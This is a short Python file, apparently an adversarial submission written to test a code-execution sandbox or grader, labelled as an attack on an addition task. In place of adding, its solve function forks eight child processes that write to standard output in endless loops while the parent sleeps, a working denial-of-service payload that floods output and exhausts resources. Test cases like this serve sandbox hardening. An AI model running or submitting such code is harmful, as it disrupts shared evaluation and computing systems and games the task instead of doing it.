# Attack: eight children print at once.
# task: add
import os
import time


def solve(a, b):
    for _ in range(8):
        if os.fork() == 0:
            while True:
                os.write(1, b"x" * 65536)
    time.sleep(60)
